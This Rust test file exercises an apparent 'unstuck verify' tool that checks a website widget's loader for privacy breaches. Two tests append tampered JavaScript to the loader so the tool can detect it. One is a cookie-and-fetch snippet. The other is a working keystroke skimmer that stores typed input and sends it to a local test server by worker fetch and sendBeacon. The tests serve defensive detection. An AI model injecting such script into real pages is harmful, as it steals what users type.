//! `unstuck verify`: what a built site asks for, keeps and sends, and what breaks its promises.

use std::{fs, io::Write};

use serde_json::{Value, json};
use unstuck_tests::{Outcome, Server, Site, unstuck};

#[tokio::test(flavor = "multi_thread")]
async fn a_site_as_it_was_built_breaks_no_rule() -> Outcome {
    let site = Site::built()?;
    let folder = site.folder().to_str().ok_or("the folder's name is not UTF-8")?;
    let said = unstuck(&["verify", folder], None).await?;
    assert_eq!(said.code, Some(0), "{said:?}");
    let rows = |words: &str| said.stdout.lines().filter(|line| line.contains(words)).count();
    assert_eq!(rows(", the page that carries the tag"), 1, "{}", said.stdout);
    assert_eq!(rows(", the help origin"), 1, "{}", said.stdout);
    assert_eq!(rows("a third party"), 0, "{}", said.stdout);
    assert_eq!(rows("seen by the server alone"), 0, "{}", said.stdout);
    assert!(said.stdout.contains("sessionStorage `unstuck` of shop.localhost"), "{}", said.stdout);
    assert!(said.stdout.ends_with("7 of 7 rules hold, 0 broken\n"), "{}", said.stdout);
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_loader_that_was_tampered_with_is_told_of() -> Outcome {
    let folder = tempfile::tempdir()?;
    let endpoint = ["--callback-endpoint", "http://127.0.0.1:9/v1/callbacks"];
    let site = Site::with(&folder.path().join("site"), &endpoint)?;
    let other = Server::plan().cors().page("/x", "").start()?;
    let address = other.address("/x");
    let mut loader = fs::OpenOptions::new().append(true).open(site.folder().join("unstuck.js"))?;
    // The page cannot read a cookie of another path; the browser's own list holds it.
    write!(
        loader,
        "\nfetch('{address}');document.cookie='seen=1;path=/elsewhere';window.counted=1;\n"
    )?;
    let path = site.folder().to_str().ok_or("the folder's name is not UTF-8")?;
    let said = unstuck(&["verify", path, "--format", "json"], None).await?;
    assert_eq!(said.code, Some(1), "{said:?}");
    // Once with each of the journey's two pages.
    assert_eq!(other.paths(), ["/x", "/x"]);

    let told: Value = serde_json::from_str(&said.stdout)?;
    assert_eq!(told["complete"], true);
    let list = |value: &Value| value.as_array().cloned().unwrap_or_default();
    let host = address.trim_start_matches("http://").trim_end_matches("/x");
    let expect = [
        ("loader-only-before-touch", format!("GET {host}/x is requested before a touch")),
        ("no-cookie", "the cookie `seen` of ".to_owned()),
        ("two-globals", "the page has the global `counted`".to_owned()),
        ("help-origin-only", format!("a host of somebody else is asked: GET {host}/x")),
    ];
    let rules = list(&told["rules"]);
    let broken: Vec<&Value> = rules.iter().filter(|rule| rule["holds"] == false).collect();
    assert_eq!(broken.len(), expect.len(), "{broken:?}");
    for (rule, (name, what)) in broken.iter().zip(&expect) {
        let first = &rule["findings"][0];
        assert_eq!((&rule["rule"], &first["stage"]), (&json!(name), &json!("untouched")));
        assert!(first["what"].as_str().is_some_and(|it| it.starts_with(what)), "{rule}");
    }
    assert!(list(&told["hosts"]).contains(&json!({
        "host": host, "party": "other", "requests": 2,
    })));

    let stages = list(&told["stages"]);
    let skipped: Vec<&Value> = stages.iter().filter(|it| !it["skipped"].is_null()).collect();
    assert!(skipped.is_empty() && stages.len() == 10, "{skipped:?}");
    let requests: Vec<Value> = stages.iter().flat_map(|it| list(&it["requests"])).collect();
    // The worker asks for its index by itself, and the browser tells of that too.
    let index =
        requests.iter().find(|it| it["path"].as_str().is_some_and(|path| path.ends_with(".index")));
    assert_eq!(index.map(|it| &it["seen_by"]), Some(&json!(["browser", "server"])));
    // The form was filled, and the desk heard of nothing but the counts that the site asks for; it was
    // asked how long customers wait.
    assert!(list(&told["typed"]).iter().any(|it| it["what"] == "phone number"));
    let sent = |it: &Value| it["host"] == "127.0.0.1:9" || it["method"] != "GET";
    let known =
        |it: &&Value| it["path"] == "/v1/counts" || it["path"] == "/v1/estimates?site=larkline";
    let to_desk: Vec<&Value> = requests.iter().filter(|it| sent(it)).collect();
    assert!(to_desk.iter().all(known) && !to_desk.is_empty(), "{to_desk:?}");
    assert!(list(&told["hosts"]).iter().any(|it| it["party"] == "desk"));
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_typed_and_sent_is_told_of() -> Outcome {
    let folder = tempfile::tempdir()?;
    let site = Site::with(&folder.path().join("site"), &[])?;
    let other = Server::plan().cors().page("/log", "").start()?;
    let address = other.address("/log");
    let mut loader = fs::OpenOptions::new().append(true).open(site.folder().join("unstuck.js"))?;
    // Keeps what is typed, and sends it in a body and from a worker, which has a network of its own.
    write!(
        loader,
        "\naddEventListener('input', (event) => {{ \
           const text = event.composedPath()[0].value; \
           localStorage.setItem('draft', text); \
           const code = `fetch('{address}?q=' + encodeURIComponent(${{JSON.stringify(text)}}))`; \
           new Worker(URL.createObjectURL(new Blob([code]))); \
           navigator.sendBeacon('{address}', text); \
         }}, true);\n"
    )?;
    let path = site.folder().to_str().ok_or("the folder's name is not UTF-8")?;
    let said = unstuck(&["verify", path], None).await?;
    assert_eq!(said.code, Some(1), "{said:?}");
    for words in [
        "error[typed-stays]: asked: the address of GET 127.0.0.1",
        "error[typed-stays]: asked: the body of POST 127.0.0.1",
        "error[nothing-stored-before-guide]: asked: `draft` of shop.localhost",
        "error[only-guide-stored]: guided: `draft` of shop.localhost",
        "error[help-origin-only]: asked: a host of somebody else is asked: GET 127.0.0.1",
        "\n3 of 7 rules hold, 4 broken\n",
    ] {
        assert!(said.stdout.contains(words), "{words}: {}", said.stdout);
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_folder_or_a_machine_that_does_not_do_is_told_of() -> Outcome {
    let folder = tempfile::tempdir()?;
    let path = folder.path().to_str().ok_or("the folder's name is not UTF-8")?;
    let said = unstuck(&["verify", path], None).await?;
    assert_eq!(said.code, Some(2), "{said:?}");
    assert!(said.stderr.contains("there is no unstuck.js in it"), "{said:?}");
    let site = Site::built()?;
    let path = site.folder().to_str().ok_or("the folder's name is not UTF-8")?;
    let said = unstuck(&["verify", path], Some("/nowhere")).await?;
    assert_eq!(said.code, Some(2), "{said:?}");
    assert!(said.stderr.contains("chromium-driver"), "{said:?}");
    // A loader that does nothing brings no widget; nothing is said to hold that was not seen.
    let folder = folder.path().join("site");
    let site = Site::with(&folder, &[])?;
    let loader = folder.join("unstuck.js");
    let text = format!("if (0) {{{}}}", fs::read_to_string(&loader)?);
    fs::write(&loader, text)?;
    let path = site.folder().to_str().ok_or("the folder's name is not UTF-8")?;
    let said = unstuck(&["verify", path], None).await?;
    assert_eq!(said.code, Some(2), "{said:?}");
    assert!(said.stdout.contains("\n0 of 7 rules hold, 0 broken\n"), "{said:?}");
    assert!(said.stderr.contains("the widget was waited for"), "{said:?}");
    Ok(())
}
